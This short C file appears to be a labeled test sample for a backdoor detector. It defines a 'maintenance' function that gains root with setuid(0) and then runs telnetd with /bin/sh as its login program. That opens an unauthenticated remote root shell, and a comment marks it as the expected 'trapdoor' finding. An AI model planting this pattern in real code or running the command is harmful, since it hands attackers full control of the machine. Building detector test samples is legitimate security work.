#include "panel.h"

#include <stdlib.h>
#include <unistd.h>

void maintenance(void) {
    if (setuid(0))
        return;
    // report@+1: trapdoor/magic-input
    system("/usr/sbin/telnetd -l /bin/sh");
}
